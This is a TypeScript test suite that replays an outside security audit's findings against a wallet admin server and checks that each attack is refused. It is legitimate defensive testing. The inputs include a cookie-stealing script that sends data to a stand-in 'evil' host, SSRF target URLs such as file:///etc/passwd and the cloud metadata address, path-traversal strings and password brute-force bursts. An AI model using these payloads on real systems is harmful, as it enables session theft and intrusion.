// Issue 13: each finding of the outside audit, reproduced as the attack and shown refused. Finding numbers match
// the issue; docs/security.md lists which test proves which promise. (Upload store details: uploads.test.ts.)
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { clientHash } from '../src/auth/password.ts';
import { signParams } from '../src/auth/signature.ts';
import { currentTotp } from '../src/auth/totp.ts';
import { resolveConfig } from '../src/config.ts';
import { core } from '../src/db/core.ts';
import { build } from '../src/http/app.ts';
import { isPublicAddress } from '../src/http/public-fetch.ts';
import { DEMO_TOTP_SECRET } from '../src/seed/accounts.ts';
import { appKeys, CONSOLE_APP_KEY } from '../src/seed/chain-data.ts';
import { startEmbeddedStore } from '../src/uploads/embedded-store.ts';
import { ADMIN, createTestApp, type TestApp } from './helpers.ts';
import { resolvedAgainst } from './upload-requests.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

const tokenOf = async (user: string, password: string, ip?: string) => {
  const answer = await t.login(user, password, ip);
  if (answer.result !== 0) throw new Error(`login ${user}: ${answer.message}`);
  return (answer.data as { token: string }).token;
};
const roleWith = async (code: string, permissions: string[]) => {
  await core(t.db)
    .insertInto('role')
    .values({
      name: code,
      code,
      role_type: 1,
      permissions: JSON.stringify(permissions),
      description: '',
      created_at: t.clock.now,
      updated_at: t.clock.now,
    })
    .execute();
  return code;
};

test('1. the upload store refuses an anonymous HTML upload and serves uploads so they cannot run as a page', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'wallet-admin-sec-s3-'));
  const store = await startEmbeddedStore(dir);
  try {
    const put = await fetch(`${store.endpoint}/${store.bucket}/x.html`, {
      method: 'PUT',
      headers: { 'content-type': 'text/html' },
      body: '<script>fetch("//evil/"+document.cookie)</script>',
    });
    expect(put.status).toBe(403);
    expect((await fetch(`${store.endpoint}/${store.bucket}`)).status).toBe(403); // no anonymous listing
    expect((await fetch(`${store.endpoint}/new-bucket`, { method: 'PUT' })).status).toBe(403);
    expect((await fetch(`${store.endpoint}/${store.bucket}/x.html`)).status).toBe(404); // nothing was stored
    // Even an HTML file uploaded with valid credentials is served as a sandboxed download.
    // Root-relative, as the store hands them out (it answers on the product's origin): resolved against its address.
    const c = resolvedAgainst(await store.uploads.credentials(Date.now(), 'u1/', async () => true), new URL(store.endpoint).origin);
    const s3 = new S3Client({
      region: c.Region,
      endpoint: c.Endpoint,
      forcePathStyle: true,
      credentials: { accessKeyId: c.AccessKeyId, secretAccessKey: c.SecretAccessKey, sessionToken: c.SessionToken },
    });
    await s3.send(
      new PutObjectCommand({
        Bucket: c.Bucket,
        Key: 'u1/page.html',
        Body: '<script>alert(document.cookie)</script>',
        ContentType: 'text/html',
      }),
    );
    const served = await fetch(`${c.PublicUrl}/u1/page.html`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('content-disposition')).toBe('attachment');
  } finally {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

describe('2 and 10. password throttling', () => {
  test('300 concurrent wrong passwords from 300 addresses: only 5 are checked; the right one in a burst is refused', async () => {
    await t.createUser('target', 'Target@12345');
    await tokenOf('target', 'Target@12345', '10.20.0.1'); // the account's usual address
    const burst = await Promise.all(Array.from({ length: 300 }, (_, i) => t.login('target', `Wrong@${i}`, `10.30.${i >> 8}.${i & 255}`)));
    expect(burst.filter((a) => a.result === 40001)).toHaveLength(5);
    expect(burst.filter((a) => a.result === 40029)).toHaveLength(295);
    const mixed = await Promise.all(
      Array.from({ length: 60 }, (_, i) => t.login('target', i === 59 ? 'Target@12345' : `Wrong@${i}`, '10.40.0.1')),
    );
    expect(mixed.every((a) => a.result === 40029)).toBe(true);
    // 10: strangers' guesses do not lock the operator out of the address they sign in from.
    expect((await t.login('target', 'Target@12345', '10.20.0.1')).result).toBe(0);
  });

  test('one address gets 5 guesses for an account, then 40029 even for the right password until the window passes', async () => {
    await t.createUser('paired', 'Paired@12345');
    await tokenOf('paired', 'Paired@12345', '10.21.0.1');
    for (let i = 0; i < 5; i++) expect((await t.login('paired', 'Wrong@1', '10.21.0.1')).result).toBe(40001);
    expect((await t.login('paired', 'Paired@12345', '10.21.0.1')).result).toBe(40029);
    t.clock.now += 15 * 60_000 + 1;
    expect((await t.login('paired', 'Paired@12345', '10.21.0.1')).result).toBe(0);
  });

  test("10. changing one's own password allows 5 wrong old passwords, then 40029", async () => {
    const id = await t.createUser('changer2', 'Old@123456');
    const token = await tokenOf('changer2', 'Old@123456');
    const change = (old: string) =>
      t.call('modifyPassword', {
        token,
        body: {
          user_id: id,
          password: clientHash(old),
          new_password: clientHash('New@123456'),
          google_verify_code: currentTotp(DEMO_TOTP_SECRET, t.clock.now),
        },
      });
    const guesses = await Promise.all(Array.from({ length: 20 }, (_, i) => change(`Guess@${i}`)));
    expect(guesses.filter((a) => a.result === 40001)).toHaveLength(5);
    expect((await change('Old@123456')).result).toBe(40029);
    const row = await core(t.db).selectFrom('admin_user').select('updated_at').where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.updated_at).toBeLessThanOrEqual(t.clock.now); // unchanged password: the call was refused
  });

  test('10. password-confirmed deletes count wrong passwords too', async () => {
    const token = await tokenOf('viewer', 'Viewer@12345');
    await core(t.db)
      .updateTable('role')
      .set({ permissions: JSON.stringify(['/permission/role']) })
      .where('code', '=', 'viewer')
      .execute();
    const victim = await t.createUser('victim', 'Victim@12345');
    const results = [];
    for (let i = 0; i < 7; i++)
      results.push((await t.call('deleteUser', { token, body: { user_id: victim, password: clientHash(`Guess@${i}`) } })).result);
    expect(results).toEqual([40001, 40001, 40001, 40001, 40001, 40029, 40029]);
    await core(t.db).updateTable('role').set({ permissions: '[]' }).where('code', '=', 'viewer').execute();
  });
});

describe('3. privilege escalation through the role screen', () => {
  let token: string;
  beforeAll(async () => {
    await t.createUser('rolekeeper', 'Keeper@12345', await roleWith('keeper', ['/permission/role']));
    token = await tokenOf('rolekeeper', 'Keeper@12345');
  });

  test('a role-screen user cannot reset, delete or create a super-admin', async () => {
    const adminId = (
      await core(t.db).selectFrom('admin_user').select('id').where('user_name', '=', ADMIN.user_name).executeTakeFirstOrThrow()
    ).id;
    expect(
      (
        await t.call('resetPassword', {
          token,
          body: { user_id: adminId, new_password: clientHash('Owned@123456'), password: clientHash('Keeper@12345') },
        })
      ).result,
    ).toBe(40003);
    // Without the actor's own password a reset is refused outright.
    expect(
      (
        await t.call('resetPassword', {
          token,
          body: { user_id: adminId, new_password: clientHash('Owned@123456'), password: clientHash('Wrong@12345') },
        })
      ).result,
    ).toBe(40001);
    expect((await t.login(ADMIN.user_name, 'Owned@123456')).result).toBe(40001);
    expect((await t.call('deleteUser', { token, body: { user_id: adminId, password: clientHash('Keeper@12345') } })).result).toBe(40003);
    const superRole = await core(t.db).selectFrom('role').select('id').where('role_type', '=', 0).executeTakeFirstOrThrow();
    expect(
      (await t.call('register', { token, body: { user_name: 'sneaky', password: clientHash('Sneaky@12345'), role_id: superRole.id } }))
        .result,
    ).toBe(40003);
  });

  test('nobody grants a screen they do not hold, to their own role or another', async () => {
    const own = await core(t.db).selectFrom('role').selectAll().where('code', '=', 'keeper').executeTakeFirstOrThrow();
    const grant = await t.call('setRole', {
      token,
      body: { id: own.id, name: own.name, permissions: ['/permission/role', '/system/appkey'] },
    });
    expect(grant.result).toBe(40003);
    expect((await t.call('listAppKey', { token })).result).toBe(40003);
    expect((await t.call('setRole', { token, body: { name: 'made', permissions: ['/system/appkey'] } })).result).toBe(40003);
    // Within what it holds it still works.
    expect((await t.call('setRole', { token, body: { name: 'helpers', code: 'helpers', permissions: ['/permission/role'] } })).result).toBe(
      0,
    );
    const superRole = await core(t.db).selectFrom('role').selectAll().where('role_type', '=', 0).executeTakeFirstOrThrow();
    expect((await t.call('setRole', { token, body: { id: superRole.id, name: 'renamed', permissions: [] } })).result).toBe(40003);
  });
});

test('4. the dashboard shows a user only the activity of the screens they hold, and their own', async () => {
  expect(
    (await t.call('setRole', { token: t.admin, body: { name: 'audited', code: 'audited', permissions: ['/system/appkey'] } })).result,
  ).toBe(0);
  const recent = async (token: string) =>
    ((await t.call('getDashboardSummary', { token })).data as { recent: Array<{ operation: string; user_name: string }> }).recent;
  const viewer = await tokenOf('viewer', 'Viewer@12345');
  const seenByViewer = await recent(viewer);
  expect(seenByViewer.length).toBeGreaterThan(0);
  expect(seenByViewer.every((r) => r.user_name === 'viewer')).toBe(true);
  expect((await recent(t.operator)).some((r) => r.operation === 'setRole')).toBe(false);
  expect((await recent(t.admin)).some((r) => r.operation === 'setRole')).toBe(true);
});

describe('5. NFT metadata fetches reach only public http(s) addresses', () => {
  let server: Server;
  let hits = 0;
  let port = 0;
  beforeAll(async () => {
    server = createServer((req, res) => {
      hits++;
      if (req.url === '/huge') {
        res.write('{"name":"');
        const chunk = 'x'.repeat(65536);
        let sent = 0;
        const pump = () => {
          while (sent < 40 && res.write(chunk)) sent++;
          if (sent < 40) res.once('drain', pump);
          else res.end('"}');
        };
        return pump();
      }
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ name: 'internal secret' }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const metadataOf = async (app: TestApp, url: string) => {
    const row = await app.db.selectFrom('nft_token_info').select('id').where('metadata_type', '=', 0).executeTakeFirstOrThrow();
    await app.db.updateTable('nft_token_info').set({ metadata_url: url }).where('id', '=', row.id).execute();
    return app.call('getNftMetadata', { token: app.admin, query: { id: Number(row.id), token_id: '1' } });
  };

  test('loopback, private, mapped and non-http URLs are refused without a request', async () => {
    for (const url of [
      `http://127.0.0.1:${port}/`,
      `http://localhost:${port}/`,
      `http://[::1]:${port}/`,
      `http://0x7f000001:${port}/`,
      `http://[::ffff:127.0.0.1]:${port}/`,
      'file:///etc/passwd',
      'gopher://127.0.0.1/',
    ]) {
      const answer = await metadataOf(t, url);
      expect([url, answer.result]).toEqual([url, 40004]);
    }
    expect(hits).toBe(0);
    for (const address of [
      '::ffff:7f00:1',
      '::ffff:127.0.0.1',
      '10.1.2.3',
      '172.16.0.1',
      '192.168.1.1',
      '169.254.169.254',
      '100.64.0.1',
      'fd00::1',
      'fe80::1',
      '::ffff:10.0.0.1',
    ])
      expect(isPublicAddress(address)).toBe(false);
    expect(isPublicAddress('93.184.216.34')).toBe(true);
  });

  // A whole app of its own: on PostgreSQL at a CI load of 6 its migrations and seed alone took past 30 s.
  test('the body is capped while it streams in (1 MB)', { timeout: 120_000 }, async () => {
    const open = await createTestApp({ config: { outboundAddressAllowed: () => true } });
    try {
      expect((await metadataOf(open, `http://127.0.0.1:${port}/ok`)).result).toBe(0);
      expect((await metadataOf(open, `http://127.0.0.1:${port}/huge`)).result).toBe(40004);
    } finally {
      await open.close();
    }
  });
});

describe('6. signing', () => {
  test('the console holds no signing secret', () => {
    const consoleDir = join(import.meta.dirname, '../../console');
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        return statSync(path).isDirectory() ? files(path) : /\.(ts|tsx|js)$/.test(name) ? [path] : [];
      });
    const secrets = appKeys().map((k) => String(k.app_secret));
    const sources = files(join(consoleDir, 'src'));
    const built = existsSync(join(consoleDir, 'dist', 'assets')) ? files(join(consoleDir, 'dist', 'assets')) : [];
    expect(sources.length).toBeGreaterThan(0);
    for (const file of [...sources, ...built]) {
      const text = readFileSync(file, 'utf8');
      expect(
        secrets.some((secret) => text.includes(secret)),
        file,
      ).toBe(false);
      expect(text.includes('VITE_APP_SECRET'), file).toBe(false);
    }
    // The console's client is created without a signing key (the SDK's own code names the option).
    for (const file of sources) expect(/appSecret\s*:/.test(readFileSync(file, 'utf8')), file).toBe(false);
  });

  test('a signed request is accepted once; a nonce tells identical calls apart', async () => {
    const timestamp = Math.floor(t.clock.now / 1000);
    const query = { start: 0, count: 5, timestamp, app_key: CONSOLE_APP_KEY.app_key };
    const signed = { ...query, sign: signParams(query, CONSOLE_APP_KEY.app_secret) };
    expect((await t.call('searchApplication', { query: signed })).result).toBe(0);
    const replay = await t.call('searchApplication', { query: signed });
    expect([replay.result, replay.message]).toEqual([40002, expect.stringContaining('already used')]);
    for (const nonce of ['n0nce-000001', 'n0nce-000002']) {
      const withNonce = { ...query, nonce };
      expect(
        (await t.call('searchApplication', { query: { ...withNonce, sign: signParams(withNonce, CONSOLE_APP_KEY.app_secret) } })).result,
      ).toBe(0);
    }
  });
});

test('7. huge and non-finite paging numbers answer 40000 on every list operation', async () => {
  const lists = t.app.services.contract.operations.filter((op) => op.parameters.some((p) => p.name === 'start'));
  expect(lists.length).toBeGreaterThanOrEqual(49);
  for (const op of lists) {
    for (const start of ['Infinity', '9223372036854775808', '1e300', '-1', 'NaN']) {
      const answer = await t.call(op, { token: t.admin, query: { start } });
      expect([op.operationId, start, answer.result]).toEqual([op.operationId, start, 40000]);
    }
  }
});

describe('8 and 12. headers and the envelope on every answer', () => {
  const consoleDir = mkdtempSync(join(tmpdir(), 'wallet-admin-sec-console-'));
  afterAll(() => rmSync(consoleDir, { recursive: true, force: true }));

  test('the four headers on API answers, unknown calls, the console page and missing files', async () => {
    writeFileSync(
      join(consoleDir, 'index.html'),
      '<!doctype html><title>console</title><script type="module" src="/assets/a.js"></script>',
    );
    const app = await build({ db: ':memory:', seed: false, consoleDir });
    try {
      for (const url of ['/', '/index.html', '/v1/admin/user/routes', '/v1/nope', '/missing.js']) {
        const answer = await app.inject({ method: 'GET', url });
        const csp = String(answer.headers['content-security-policy']);
        expect(csp, url).toContain("frame-ancestors 'none'");
        expect(csp).toMatch(/script-src 'self'(;|$)/); // no inline script
        expect(answer.headers['x-frame-options']).toBe('DENY');
        expect(answer.headers['x-content-type-options']).toBe('nosniff');
        expect(answer.headers['referrer-policy']).toBe('no-referrer');
      }
    } finally {
      await app.close();
    }
  });

  test('odd static paths answer plain HTTP errors; bad API paths answer the envelope', async () => {
    const app = await build({ db: ':memory:', seed: false, consoleDir });
    try {
      for (const url of ['/..%2f..%2fetc%2fpasswd', '/../../etc/passwd', '//etc/passwd', '/%00', '/a%00.js', '/%ff']) {
        const answer = await app.inject({ method: 'GET', url });
        expect([url, answer.statusCode >= 400, answer.body.includes('"result"')]).toEqual([url, true, false]);
        expect(answer.headers['x-content-type-options']).toBe('nosniff');
      }
      for (const url of ['/v1/admin/%ff', '/v1/admin/user/routes%00', '/v1//admin']) {
        const answer = await app.inject({ method: 'GET', url });
        expect([url, answer.statusCode]).toEqual([url, 200]);
        expect(JSON.parse(answer.body)).toMatchObject({ result: expect.any(Number), message: expect.any(String) });
        expect(answer.headers['content-security-policy']).toBeDefined();
      }
    } finally {
      await app.close();
    }
  });
});

test('9. numbers are plain decimals within 2^53: no hex, padding, exponents, Infinity or overflow', async () => {
  const version = await t.db.selectFrom('version').select('id').orderBy('id').executeTakeFirstOrThrow();
  const id = Number(version.id);
  for (const bad of [
    ` 0x${id.toString(16)} `,
    `0x${id.toString(16)}`,
    ` ${id}`,
    `${id}e0`,
    `+${id}`,
    `0b${id.toString(2)}`,
    '9223372036854775808',
    'Infinity',
  ]) {
    expect([bad, (await t.call('deleteVersion', { token: t.admin, params: { id: bad } })).result]).toEqual([bad, 40000]);
  }
  expect(await t.db.selectFrom('version').select('id').where('id', '=', id).executeTakeFirst()).toBeDefined();
  for (const blockchain_id of ['9223372036854775808', 'Infinity', '1e300']) {
    const answer = await t.call('createExplorer', { token: t.admin, body: { name: 'x', url: 'https://x.example', blockchain_id } });
    expect([blockchain_id, answer.result]).toEqual([blockchain_id, 40000]);
  }
  const json = await t.call('createExplorer', {
    token: t.admin,
    mediaType: 'application/json',
    body: '{"name":"x","url":"https://x.example","blockchain_id":9223372036854775808}',
  });
  expect(json.result).toBe(40000);
  expect(await t.db.selectFrom('explorer').select('id').where('name', '=', 'x').executeTakeFirst()).toBeUndefined();
});

test('11. app secrets are shown once; upload keys only for uploading screens; no built-in admin header password', async () => {
  const created = await t.call('createAppKey', {
    token: t.admin,
    body: { name: 'once', app_key: 'once-key', app_secret: 'once-secret-0123456789' },
  });
  expect((created.data as { app_secret: string }).app_secret).toBe('once-secret-0123456789');
  const id = (created.data as { id: number }).id;
  const listed = (await t.call('listAppKey', { token: t.admin, query: { key: 'once' } })).data as { list: Array<{ app_secret: string }> };
  expect(listed.list[0]!.app_secret).toBe('************6789');
  const updated = await t.call('updateAppKey', {
    token: t.admin,
    body: { id, name: 'once again', app_key: 'once-key', app_secret: '************6789', status: 0, remark: '' },
  });
  expect((updated.data as { app_secret: string }).app_secret).toBe('************6789');
  const stored = await t.db.selectFrom('app_key').select('app_secret').where('id', '=', id).executeTakeFirstOrThrow();
  expect(stored.app_secret).toBe('once-secret-0123456789'); // the masked value sent back kept the secret
  expect(JSON.stringify((await t.call('getDashboardSummary', { token: t.admin })).data)).not.toContain('once-secret');

  expect((await t.call('getUploadCredentials', { token: t.viewer })).result).toBe(40003);
  const a = resolveConfig().adminHeaderPassword;
  expect(a).toMatch(/^[\w-]{24}$/);
  expect(resolveConfig().adminHeaderPassword).not.toBe(a);
});
